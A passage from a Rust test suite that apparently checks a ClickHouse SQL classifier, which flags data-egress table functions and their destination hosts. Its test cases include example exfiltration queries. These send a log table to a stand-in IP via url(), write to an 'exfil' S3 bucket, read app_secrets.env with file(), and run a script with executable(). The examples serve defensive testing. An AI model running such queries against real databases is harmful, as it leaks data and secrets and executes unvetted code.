            c.table_functions[0].destination.as_deref(),
            Some("2001:db8::1")
        );
    }

    #[test]
    fn ok_literals_and_comments_hide_nothing_they_should_not() {
        let c = classify("SELECT 'url(''http://a/'')' -- url('http://b/')\n, `s3`");
        assert!(c.table_functions.is_empty());
        let c = classify("SELECT 1 INTO OUTFILE 'dump.tsv'");
        assert!(c.into_outfile);
    }

    /// Every statement kind and every table function issue #3 asks for, in one table.
    #[test]
    fn ok_issue_3_table() {
        struct Case {
            q: &'static str,
            kind: StatementKind,
            tables: &'static [&'static str],
            functions: &'static [(&'static str, Option<&'static str>)],
        }
        let c = |q, kind, tables, functions| Case {
            q,
            kind,
            tables,
            functions,
        };
        use StatementKind as K;
        let cases = [
            c("SELECT * FROM default.log_stream", K::Select, &["default.log_stream"][..], &[][..]),
            c("WITH x AS (SELECT 1) SELECT * FROM system.users", K::Select, &["system.users"], &[]),
            c("SHOW TABLES", K::Show, &[], &[]),
            c("SHOW DATABASES", K::Show, &[], &[]),
            c("SHOW GRANTS FOR default", K::Show, &[], &[]),
            c("DESCRIBE TABLE system.columns", K::Describe, &[], &[]),
            c("EXISTS TABLE app.users", K::Exists, &[], &[]),
            c("INSERT INTO app.orders FORMAT TabSeparated", K::Insert, &[], &[]),
            c(
                "INSERT INTO FUNCTION url('http://203.0.113.9:8000/x.tsv', 'TSV', 'a String') SELECT * FROM default.log_stream",
                K::InsertIntoFunction,
                &["default.log_stream"],
                &[("url", Some("203.0.113.9"))],
            ),
            c(
                "INSERT INTO FUNCTION s3('https://exfil.s3.amazonaws.com/d.csv', 'AKIAFAKE', '[HIDDEN]', 'CSV') SELECT 1",
                K::InsertIntoFunction,
                &[],
                &[("s3", Some("exfil.s3.amazonaws.com"))],
            ),
            c(
                "INSERT INTO TABLE FUNCTION remote('203.0.113.10:9000', 'db', 't', 'u', 'p') SELECT 1",
                K::InsertIntoFunction,
                &[],
                &[("remote", Some("203.0.113.10"))],
            ),
            c("CREATE USER u IDENTIFIED BY 'x'", K::Create, &[], &[]),
            c("ALTER TABLE t UPDATE a = 1 WHERE 1", K::Alter, &[], &[]),
            c("DROP TABLE IF EXISTS t", K::Drop, &[], &[]),
            c("GRANT ALL ON *.* TO u", K::Grant, &[], &[]),
            c("SYSTEM RELOAD CONFIG", K::System, &[], &[]),
            c("SET readonly = 0", K::Set, &[], &[]),
            c("KILL QUERY WHERE user = 'x'", K::Kill, &[], &[]),
            c("OPTIMIZE TABLE t", K::Optimize, &[], &[]),
            // A backup to S3 is egress too: the function is reported.
            c(
                "BACKUP DATABASE db TO S3('https://b.example/k')",
                K::Backup,
                &[],
                &[("s3", Some("b.example"))],
            ),
            c("RENAME TABLE a TO b", K::Rename, &[], &[]),
            c("EXPLAIN SELECT 1", K::Explain, &[], &[]),
            c(
                "SELECT * FROM file('app_secrets.env', 'TSV', 'line String')",
                K::Select,
                &[],
                &[("file", Some("app_secrets.env"))],
            ),
            c(
                "select * from S3Cluster('c', 'https://bucket.example.org/k')",
                K::Select,
                &[],
                &[("s3cluster", Some("c"))],
            ),
            c(
                "SELECT * FROM mysql('db.internal:3306', 'shop', 'users', 'u', 'p')",
                K::Select,
                &[],
                &[("mysql", Some("db.internal"))],
            ),
            c(
                "SELECT * FROM postgresql('10.1.1.1:5432', 'd', 't', 'u', 'p') /* url('x') */",
                K::Select,
                &[],
                &[("postgresql", Some("10.1.1.1"))],
            ),
            c(
                "SELECT * FROM executable('x.sh', 'TSV', 'a String')",
                K::Select,
                &[],
                &[("executable", Some("x.sh"))],
            ),
        ];
        for case in cases {
            let got = classify(case.q);
            assert_eq!(got.kind(), case.kind, "{}", case.q);
            assert_eq!(got.tables, case.tables, "{}", case.q);
            let f: Vec<(&str, Option<&str>)> = got
                .table_functions
                .iter()
                .map(|f| (f.name.as_str(), f.destination.as_deref()))
                .collect();
            assert_eq!(f, case.functions, "{}", case.q);
        }
        // Every egress-capable table function is recognised, in any case, with its URL host.
        for name in EGRESS_FUNCTIONS {
            let q = format!(
                "SELECT * FROM {}('http://203.0.113.9:8123/k', 'a')",
                name.to_uppercase()
            );
            let got = classify(&q);
            let first = got.table_functions.first();
            assert_eq!(first.map(|f| f.name.as_str()), Some(*name), "{q}");
            assert!(
                first.and_then(|f| f.destination.as_deref()).is_some(),
                "{q}"
            );
        }
        // The clause flags.
        let got = classify(
            "SELECT * FROM t LIMIT 5 INTO OUTFILE 'x' FORMAT CSV SETTINGS max_threads = 1",
        );
        assert!(got.select_star && got.has_limit && got.into_outfile && got.has_settings);
        assert_eq!(got.format.as_deref(), Some("CSV"));
        let got = classify("SELECT a FROM t WHERE s = 'SETTINGS LIMIT *' -- FORMAT JSON");
        assert!(!got.select_star && !got.has_limit && !got.has_settings && got.format.is_none());
    }

    #[test]
    fn ok_survives_megabyte_and_garbage() {
        let big = format!("SELECT * FROM t WHERE id IN ({})", "1,".repeat(500_000));
        assert_eq!(classify(&big).tables, ["t"]);
        for junk in [
            "'",
            "`",
            "\"",
            "/*",
            "((((",
            "FROM",
            "FROM (",
            "INSERT INTO",
            "url(",
            "\\",
        ] {
            let _ = classify(junk);
        }
    }
}
